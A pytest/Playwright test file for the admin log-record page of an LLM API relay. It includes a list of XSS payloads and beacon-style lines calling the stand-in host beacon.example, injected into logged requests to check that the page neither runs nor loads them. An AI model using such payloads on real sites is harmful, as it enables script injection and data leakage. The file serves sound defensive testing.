"""The page of a record in a browser: its tabs, its trees, and hostile words that do nothing."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.console.browsing import PHONE, assert_accessible, assert_fits
from tests.running import Relay
from tests.waiting import until

TABS = (
    "conversation",
    "request",
    "response",
    "stream",
    "timeline",
    "headers",
    "sides",
    "cost",
    "session",
    "use",
)
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
# Whoever gets this to run has won: the title of the page becomes "run".
RUN = "document.title='run'"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"</pre></code></div></article></main></body><script>{RUN}</script>",
    f'"><input autofocus onfocus={RUN}>',
    f"' onmouseover='{RUN}",
    f"[click](javascript:{RUN})",
    f'<a href="javascript:{RUN}">click</a>',
    "![beacon](https://beacon.example/?stolen)",
    "<style>*{display:none;background:url(https://beacon.example/css)}</style>",
    "<link rel=stylesheet href=https://beacon.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://beacon.example/'>",
    "<base href=https://beacon.example/>",
    "<object data=https://beacon.example/></object><embed src=https://beacon.example/>",
    "{{ constructor.constructor('" + RUN + "')() }} {% debug %} ${" + RUN + "}",
    f"`` </code><script>{RUN}</script> ``",
    f'```html"><script>{RUN}</script>\n</pre><script>{RUN}</script>\n```',
    "\u202egnihtyna ton si siht\u202c \u2066\u200b\u00ad \U000e0041",
    f"]]>--><!--<script>{RUN}</script>-->",
)
# What nothing of it may have become.
FOREIGN = (
    "#content :is(iframe, object, embed, link, base, meta, style, script, input[autofocus], "
    "[onerror], [onload], [onfocus], [onmouseover])"
)
CORPUS = "\n\n".join(HOSTILE)


class Caller:
    def __init__(self, relay: Relay) -> None:
        self._relay = relay

    def ask(self, body: dict[str, Any], path: str = "/chat/completions", **headers: str) -> str:
        """The address of the record of this call."""
        answer = httpx.post(
            self._relay.base_url + path,
            content=json.dumps(body),
            headers={
                "authorization": f"Bearer {self._relay.key}",
                "content-type": "application/json",
                **headers,
            },
            timeout=30,
        )
        id = answer.headers["x-relay-request-id"]
        manage = {"authorization": f"Bearer {self._relay.management_token}"}
        until(
            lambda: httpx.get(f"{self._relay.url}/manage/logs/{id}", headers=manage).status_code == 200,
            seconds=30,
        )
        return f"/admin/logs_app/logrecord/{id}/change/"


@pytest.fixture(scope="module")
def caller(relay_server: Relay) -> Caller:
    return Caller(relay_server)


def said(text: str, *, answer: str = "", **more: Any) -> dict[str, Any]:
    script = (
        f" [[sim tool_calls=0 text={base64.urlsafe_b64encode(answer.encode()).decode().rstrip('=')}]]"
        if answer
        else ""
    )
    return {"model": "gpt-4o", "messages": [{"role": "user", "content": text + script}], **more}


@pytest.fixture(scope="module")
def hostile(caller: Caller) -> str:
    """A record in which everything that a caller or a model may write is hostile."""
    call = {
        "id": CORPUS[:400],
        "type": "function",
        "function": {"name": HOSTILE[0], "arguments": json.dumps({HOSTILE[1]: CORPUS})},
    }
    result = {"role": "tool", "tool_call_id": CORPUS[:400], "content": CORPUS}
    picture = {"type": "image_url", "image_url": {"url": "https://beacon.example/picture.png"}}
    vector = {
        "type": "image_url",
        "image_url": {
            "url": "data:image/svg+xml;base64,"
            + base64.b64encode(
                f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>".encode()
            ).decode()
        },
    }
    script = base64.urlsafe_b64encode(CORPUS.encode()).decode().rstrip("=")
    body = {
        "model": f"gpt-4o {HOSTILE[1]}",
        "stream": True,
        "user": HOSTILE[2],
        HOSTILE[0]: HOSTILE[1],
        "messages": [
            {"role": "system", "content": CORPUS},
            {
                "role": HOSTILE[0],
                "name": HOSTILE[1],
                "content": [{"type": HOSTILE[1], "x": CORPUS}, picture, vector],
            },
            {"role": "assistant", "content": None, "tool_calls": [call]},
            result,
            {"role": "user", "content": f"{CORPUS} [[sim tool_calls=0 text={script}]]"},
        ],
        "tools": [{"type": "function", "function": {"name": HOSTILE[0], "description": CORPUS}}],
    }
    ascii_only = [text for text in HOSTILE[:3] if text.isascii()]
    return caller.ask(
        body,
        **{
            "x-relay-tags": ",".join(ascii_only),
            "x-relay-session": HOSTILE[1],
            "x-relay-user": HOSTILE[0],
            "x-own": HOSTILE[1],
        },
    )


@pytest.fixture
def watched(
    open_context: Callable[..., BrowserContext], relay_server: Relay
) -> Iterator[tuple[Page, list[str]]]:
    """A page, and whatever it asked of others than the relay; dialogs count too."""
    page, elsewhere = open_context().new_page(), []
    page.on(
        "request",
        lambda request: None if request.url.startswith(relay_server.url) else elsewhere.append(request.url),
    )
    page.on("dialog", lambda dialog: (elsewhere.append(f"dialog {dialog.message}"), dialog.dismiss()))
    yield page, elsewhere
    assert elsewhere == []


@pytest.mark.parametrize("tab", TABS)
def test_hostile_words_run_nothing_and_load_nothing(watched, hostile, tab):
    page, elsewhere = watched
    page.goto(f"{hostile}?tab={tab}")
    page.wait_for_load_state("networkidle")
    if page.locator("[data-json-unfold]").count():
        page.locator("[data-json-unfold]").first.click()
    for button in page.locator("[data-part-raw], [data-part-all]").all()[:6]:
        button.dispatch_event("click")
    page.wait_for_load_state("networkidle")
    assert page.title() != "run" and elsewhere == []
    assert page.locator(FOREIGN).count() == 0
    assert page.locator("#content a[href^='javascript:' i]").count() == 0
    for image in page.locator("#content img").all():
        assert image.get_attribute("src").startswith("/admin/")


def test_what_hides_is_seen(page, hostile):
    page.goto(hostile)
    expect(page.locator(".hidden-character").first).to_have_text("U+202E")


def test_a_picture_of_somebody_is_served_and_can_do_nothing(page, hostile, relay_server):
    page.goto(hostile)
    link = page.locator(".part-file a").first
    answer = page.request.get(link.get_attribute("href"))
    assert answer.headers["content-type"] == "application/octet-stream"
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"


@pytest.fixture(scope="module")
def talk(caller: Caller) -> str:
    messages = [
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "What is **this**?"},
                {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{PNG}"}},
            ],
        },
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "look", "arguments": '{"at": 1}'}}
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": '{"colour": "red"}'},
        *said("x" * 9000 + " the end", answer="So:\n\n```py\nprint(1)\n```\n\n- one\n- two")["messages"],
    ]
    return caller.ask(
        {"model": "gpt-4o", "stream": True, "messages": messages, "seed": 2**60 + 1},
        **{"x-relay-session": "talk", "x-relay-tags": "beta"},
    )


@pytest.mark.parametrize("tab", TABS)
def test_every_tab_is_accessible_and_fits_a_phone(looked_at, talk, tab):
    page = looked_at
    page.goto(f"{talk}?tab={tab}")
    expect(page.locator(".loading")).to_have_count(0)
    expect(page.locator(".tabs [aria-current]")).to_have_attribute("href", f"?tab={tab}")
    assert_accessible(page)
    page.set_viewport_size(PHONE)
    assert_fits(page)


def test_the_conversation_pairs_tools_and_shows_pictures(page, talk):
    page.goto(talk)
    call = page.locator(".part-call").first
    expect(call.locator("code").first).to_have_text("look")
    expect(call.locator(".part-result pre")).to_contain_text('"colour": "red"')
    image = page.locator(".part-image img")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
    expect(page.locator(".turn-assistant .markdown li")).to_have_text(["one", "two"])


def test_what_is_cut_is_fetched_and_markdown_is_seen_as_it_was_written(page, talk):
    page.goto(talk)
    text = page.locator(".turn-user .markdown").last
    expect(text).not_to_contain_text("the end")
    page.locator("[data-part-all]").click()
    expect(text).to_contain_text("the end")
    answer = page.locator(".turn-assistant").last
    answer.hover()
    answer.locator("[data-part-raw]").click()
    expect(answer.locator(".part-raw")).to_contain_text("```py")
    expect(answer.locator(".markdown")).to_be_hidden()
    answer.locator("[data-part-raw]").click()
    expect(answer.locator(".markdown")).to_be_visible()
    expect(answer.locator(".part-raw")).to_have_count(0)


def test_code_and_ids_are_copied(open_context, talk, relay_server):
    context = open_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=relay_server.url)
    page = context.new_page()
    page.goto(talk)
    page.locator(".markdown pre [data-code]").click()
    assert page.evaluate("navigator.clipboard.readText()") == "print(1)\n"
    page.locator("[data-copy-from='#record-id']").click()
    assert page.evaluate("navigator.clipboard.readText()") in talk


def test_the_tree_folds_is_searched_and_keeps_every_digit(page, talk):
    page.goto(f"{talk}?tab=request")
    tree = page.locator(".json-tree")
    expect(tree).to_contain_text(str(2**60 + 1))
    expect(tree).not_to_contain_text("colour")
    page.fill(".json-search", "colour")
    expect(tree.locator(".is-found")).to_contain_text("colour")
    expect(page.locator(".json-found")).to_have_text("1 / 1")
    page.fill(".json-search", "nowhere at all")
    expect(page.locator(".json-found")).to_have_text("Nothing found")
    page.click("[data-json-fold]")
    expect(tree.locator("details details[open]")).to_have_count(0)


def test_the_events_of_a_stream_are_filtered(page, talk):
    page.goto(f"{talk}?tab=stream")
    expect(page.locator(".events tbody tr").first).to_contain_text("chat.completion.chunk")
    page.fill("#events-words", "[DONE]")
    page.keyboard.press("Enter")
    expect(page.locator(".events tbody tr")).to_have_count(1)


def test_a_body_of_megabytes_waits_until_it_is_wanted(page, caller):
    address = caller.ask(said("word " * 600_000))
    page.goto(f"{address}?tab=request")
    expect(page.locator(".json-tree")).to_contain_text("This body has")
    page.click(".json-tree button")
    expect(page.locator(".json-tree details").first).to_be_visible()


def test_a_failure_says_whose_fault_it_is(page, caller):
    page.goto(caller.ask(said("Hi [[sim status=429]]")))
    expect(page.locator(".record-why")).to_contain_text("The provider's fault.")
    assert_accessible(page)


def test_the_same_is_asked_again_and_both_answers_are_compared(page, talk):
    page.goto(talk)
    page.click("text=Replay and compare")
    page.fill("#id_model", "gpt-4o-mini")
    page.click("text=Ask again")
    expect(page.locator("h2", has_text="Both answers")).to_be_visible()
    expect(page.locator(".changes").or_(page.locator(".notice-ok")).first).to_be_visible()
    assert_accessible(page)
    page.set_viewport_size(PHONE)
    assert_fits(page)


def test_the_session_is_walked_by_keys(page, caller):
    first, second = (caller.ask(said(text), **{"x-relay-session": "walk"}) for text in ("one", "two"))
    page.goto(first)
    page.keyboard.press("]")
    page.wait_for_url(f"**{second}")
    page.keyboard.press("[")
    page.wait_for_url(f"**{first}")


def test_a_call_that_goes_on_shows_its_tokens_and_becomes_its_record(page, relay_server):
    """It is silent in its middle until the client has enough."""
    script = base64.urlsafe_b64encode(b"one two three four five").decode().rstrip("=")
    body = said(f"Slowly [[sim text={script} chunks=5 hang=3]]", stream=True)
    address = f"{relay_server.base_url}/chat/completions"
    headers = {"authorization": f"Bearer {relay_server.key}"}
    with httpx.stream("POST", address, json=body, headers=headers, timeout=60) as answer:
        page.goto(f"/admin/logs_app/logrecord/{answer.headers['x-relay-request-id']}/change/")
        expect(page.locator(".open-answer pre")).to_contain_text("one two")
        expect(page.locator("[data-state]")).to_have_text("Open")
        assert_accessible(page)
        page.set_viewport_size(PHONE)
        assert_fits(page)
    expect(page.locator(".turn-user")).to_contain_text("Slowly")
    expect(page.locator(".turn-assistant .markdown")).to_contain_text("one two")
    expect(page.locator(".record-why")).to_contain_text("in the middle of the answer")
